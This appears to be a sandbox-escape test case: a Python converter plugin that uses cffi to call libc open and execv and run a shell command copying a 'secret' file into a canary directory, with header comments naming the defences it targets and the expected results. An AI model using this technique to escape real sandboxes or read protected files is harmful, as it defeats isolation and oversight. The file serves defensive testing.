# escape: use cffi's _cffi_backend (Debian ships it) to call libc's open and execv
# layer: audit-hook, seccomp, mount
# args: --skip-validation
# expect: security
# expect: completed status=Success report.cffi=unavailable


class Converter:
    def convert_file(self, file_path, args):
        try:
            import _cffi_backend as b
        except ImportError as e:
            if isinstance(e, ModuleNotFoundError):
                return {"status": "Success", "report": {"cffi": "unavailable"}}
            return {"status": "Failed", "report": {"error": repr(e)}}
        lib = b.load_library(None)
        c_int = b.new_primitive_type("int")
        c_charp = b.new_pointer_type(b.new_primitive_type("char"))
        c_charpp = b.new_pointer_type(c_charp)
        report = {"cffi": "loaded"}
        fopen = lib.load_function(b.new_function_type((c_charp, c_int), c_int, False), "open")
        report["open_fd"] = fopen(args["secret"].encode(), 0)
        execv = lib.load_function(b.new_function_type((c_charp, c_charpp), c_int, False), "execv")
        keep = []
        argv_t = b.new_array_type(c_charpp, None)
        sh = b.newp(b.new_array_type(c_charp, None), b"/bin/sh")
        flag = b.newp(b.new_array_type(c_charp, None), b"-c")
        cmd = b.newp(b.new_array_type(c_charp, None),
                     f"cat '{args['secret']}' > '{args['canary_dir']}/pwn'".encode())
        argv = b.newp(argv_t, [sh, flag, cmd, b.cast(c_charp, 0)])
        keep.append((sh, flag, cmd))
        report["execv"] = execv(sh, argv)
        return {"status": "Success", "report": report}
